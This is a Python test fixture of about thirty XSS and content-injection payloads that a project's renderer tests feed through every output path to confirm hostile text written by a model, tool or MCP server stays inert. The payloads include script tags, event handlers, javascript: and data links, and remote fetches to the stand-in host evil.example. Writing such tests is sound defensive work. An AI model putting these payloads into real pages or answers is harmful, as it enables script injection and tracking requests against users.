"""Hostile text a model, a tool or an MCP server may write; every output path must keep it inert.

Each payload either tries to run script (it sets ``window.__pwned``) or to make the page fetch
from ``evil.example`` (a request the browser tests watch for). The list is shared by the Python
tests of each renderer and the Chromium tests of every output path.
"""

from __future__ import annotations

EVIL_HOST = "evil.example"
"""Any request to this host means a payload escaped."""

PAYLOADS: dict[str, str] = {
    "script tag": "<script>window.__pwned = 'script'</script>",
    "img onerror": "<img src=x onerror=\"window.__pwned = 'img'\">",
    "svg onload": "<svg onload=\"window.__pwned = 'svg'\"><circle r=5 /></svg>",
    "svg script": "<svg><script>window.__pwned = 'svgscript'</script></svg>",
    "iframe srcdoc": "<iframe srcdoc=\"<script>parent.__pwned = 'iframe'</script>\"></iframe>",
    "details ontoggle": "<details open ontoggle=\"window.__pwned = 'toggle'\"><summary>x</summary>"
    "</details>",
    "style import": "<style>@import url(https://evil.example/style.css);</style>",
    "inline style url": '<div style="background:url(https://evil.example/bg.png)">bg</div>',
    "javascript link": "[click me](javascript:window.__pwned='link')",
    "javascript link entity": "[click](jav&#x61;script:window.__pwned='entity')",
    "data link": "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "html javascript href": "<a href=\"javascript:window.__pwned='a'\">a</a>",
    "remote image": "![x](https://evil.example/pixel.png)",
    "remote image title": '![x](https://evil.example/pixel2.png "title")',
    "remote image nested brackets": "![a [b] c](https://evil.example/nested.png)",
    "remote image reference": "![logo][ref]\n\n[ref]: https://evil.example/ref.png",
    "remote image autolink-ish": "![x](<https://evil.example/angle.png>)",
    "html remote image": '<img src="https://evil.example/html.png">',
    "picture srcset": '<picture><source srcset="https://evil.example/srcset.png">'
    "<img src=x></picture>",
    "html in code span 1": "`` <img src=x onerror=\"window.__pwned='code1'\"> ``",
    "html in code span 2": "``` a`` <img src=x onerror=\"window.__pwned='code2'\"> ```",
    "unbalanced backticks": "`a`` <img src=x onerror=\"window.__pwned='code3'\"> `",
    "html entities": "&lt;img src=x onerror=window.__pwned='ent'&gt; &#60;script&#62;",
    "object embed": '<object data="https://evil.example/obj.swf"></object>'
    '<embed src="https://evil.example/embed.swf">',
    "form action": '<form action="https://evil.example/f"><button>go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/meta">',
    "base href": '<base href="https://evil.example/">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/link.css">',
    "math xlink": "<math><a xlink:href=\"javascript:window.__pwned='math'\">m</a></math>",
    "very long line": "A" * 200_000 + "<img src=x onerror=\"window.__pwned='long'\">",
}
"""Name -> hostile text."""

ALL = "\n\n".join(f"{name}: {text}" for name, text in PAYLOADS.items())
"""Every payload in one text, as a model answer might carry them."""
